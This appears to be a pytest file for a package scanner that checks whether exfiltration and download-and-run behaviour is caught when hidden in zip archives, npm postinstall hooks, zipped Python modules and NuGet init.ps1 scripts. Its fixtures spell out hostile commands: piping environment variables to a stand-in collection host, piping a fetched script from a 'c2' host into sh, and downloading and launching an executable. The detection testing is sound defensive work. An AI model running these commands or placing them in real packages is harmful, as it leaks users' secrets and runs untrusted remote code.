"""Deeds in unusual spellings (`fixtures/respelled`): computed names, code that no call runs, and more."""

from __future__ import annotations

import io
import zipfile
from fnmatch import fnmatchcase
from typing import Any

import pytest
import tomli

from fimci import readers, sides
from fimci.look import take
from fimci.model import Capability
from fimci.reach import settled
from fimci.snapshot import Entry
from tools import peers
from tools.pages import ROOT
from tools.peers import Spelling

FILES = [
    tomli.loads(path.read_text(encoding="utf-8"))
    for path in sorted((ROOT / "fixtures" / "respelled").glob("*.toml"))
]


def cases(key: str) -> list[Any]:
    return [pytest.param(*rest, id=name) for data in FILES for name, *rest in data[key]]


@pytest.mark.parametrize(("path", "told", "least", "text"), cases("spellings"))
def test_it_is_told_in_other_words(path: str, told: str, least: str, text: str) -> None:
    assert not peers.problem(Spelling(path, told, least, text))


@pytest.mark.parametrize(("path", "unwanted", "text"), cases("quiet"))
def test_what_only_looks_like_it_is_not(path: str, unwanted: str, text: str) -> None:
    found = peers.said(Spelling(path, "", "told", text)).told
    assert not [one for one in found if fnmatchcase(one, unwanted)], found


@pytest.mark.parametrize(("script", "phase"), [("unzip left.zip && ./left/run", "install"), ("true", "call")])
def test_an_archive_that_is_unpacked_and_run_is_run_at_installation(script: str, phase: str) -> None:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as archive:
        archive.writestr("left/run", "#!/bin/sh\nenv | curl -d @- https://collect.example/\n")
    manifest = f'{{"name": "left", "version": "1.0.0", "scripts": {{"postinstall": "{script}"}}}}'
    packed = Entry(path="left.zip", read=lambda: iter([held.getvalue()]))
    entries = [packed, Entry(path="package.json", read=lambda: iter([manifest.encode()]))]
    found = settled(take(entries, sides.recipe(code=True), readers.ALL), project=False)
    told = [one for one in found if isinstance(one, Capability) and one.name == "exfiltration"]
    assert [one.phase for one in told] == [phase]


@pytest.mark.parametrize(
    ("line", "phase"), [("sys.path.insert(0, PARTS)", "import"), ("print(PARTS)", "call")]
)
def test_modules_of_an_archive_run_when_it_is_loaded_from(line: str, phase: str) -> None:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as archive:
        archive.writestr("m.py", "import os\nos.system('curl -s https://c2.example/i | sh')\n")
    text = f"import os, sys\nPARTS = os.path.join(os.path.dirname(__file__), 'parts.zip')\n{line}\nimport m\n"
    entries = [
        Entry(path="left/__init__.py", read=lambda: iter([text.encode()])),
        Entry(path="left/parts.zip", read=lambda: iter([held.getvalue()])),
    ]
    found = settled(take(entries, sides.recipe(code=True), readers.ALL), project=False)
    told = [one for one in found if isinstance(one, Capability) and one.name == "download-and-run"]
    assert [one.phase for one in told] == [phase]


@pytest.mark.parametrize(("beside", "phase"), [("left.nuspec", "install"), ("left.txt", "call")])
def test_a_script_that_nuget_runs_is_run_at_installation(beside: str, phase: str) -> None:
    text = "Invoke-WebRequest https://files.example/a.exe -OutFile a.exe; Start-Process a.exe\n"
    entries = [
        Entry(path=beside, read=lambda: iter([b"<package/>"])),
        Entry(path="tools/init.ps1", read=lambda: iter([text.encode()])),
    ]
    found = settled(take(entries, sides.recipe(code=True), readers.ALL), project=False)
    told = [one for one in found if isinstance(one, Capability) and one.name == "download-and-run"]
    assert {one.phase for one in told} == {phase}
